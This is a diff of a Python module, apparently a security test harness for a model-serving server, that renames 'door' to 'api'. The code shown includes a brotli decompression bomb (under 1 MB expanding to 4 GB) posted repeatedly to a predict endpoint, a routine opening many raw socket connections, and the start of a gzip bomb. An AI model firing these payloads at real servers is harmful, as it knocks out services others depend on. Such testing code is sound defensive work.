@@ -39,20 +39,20 @@ class Target:
         self._address = address
         self.predict = f"/v1/models/{model}:predict"
 
-    def place(self, door: str) -> tuple[str, int]:
-        """Host and port of a door."""
-        host, _, port = self._address[door].partition("://")[2].rpartition(":")
+    def place(self, api: str) -> tuple[str, int]:
+        """Returns host and port of an API."""
+        host, _, port = self._address[api].partition("://")[2].rpartition(":")
         return host, int(port)
 
     def urls(self) -> list[str]:
-        """Of both doors."""
-        return [self._address[door] for door in ("http", "rest")]
+        """Returns the addresses of both APIs."""
+        return [self._address[api] for api in ("http", "rest")]
 
-    def post(self, door: str, path: str, body: bytes, headers: dict[str, str]) -> int:
+    def post(self, api: str, path: str, body: bytes, headers: dict[str, str]) -> int:
         """The status of an answer; 0: closed without; -1: none in time."""
         headers = {**headers, "Connection": "close"}  # a chunked answer ends there
         wire = raw_http.request("POST", path, headers, body, len(body))
-        return raw_http.send(*self.place(door), wire, False, TIMEOUT_S).status
+        return raw_http.send(*self.place(api), wire, False, TIMEOUT_S).status
 
     @contextlib.contextmanager
     def opened(self, count: int, wire: bytes) -> Iterator[int]:
@@ -60,22 +60,22 @@ class Target:
         with contextlib.ExitStack() as stack:
             taken = 0
             for number in range(count):
-                door = ("http", "rest")[number % 2]
+                api = ("http", "rest")[number % 2]
                 with contextlib.suppress(OSError):
-                    one = stack.enter_context(socket.create_connection(self.place(door), 5))
+                    one = stack.enter_context(socket.create_connection(self.place(api), 5))
                     one.sendall(wire)
                     taken += 1
             yield taken
 
 
 def brotli_bomb(target: Target) -> Counter[int]:
-    """Less than a megabyte of brotli that is 4 GB, to both doors."""
+    """Less than a megabyte of brotli that is 4 GB, to both APIs."""
     packer = brotli.Compressor(quality=1)
     parts = [packer.process(bytes(1 << 26)) for _ in range(64)]
     bomb = b"".join([*parts, packer.finish()])
     headers = {"Content-Encoding": "br"}
-    doors = ("http", "rest") * 2
-    return Counter(target.post(door, "/page/predict", bomb, headers) for door in doors)
+    apis = ("http", "rest") * 2
+    return Counter(target.post(api, "/page/predict", bomb, headers) for api in apis)
 
 
 def gzip_bomb(target: Target) -> Counter[int]:
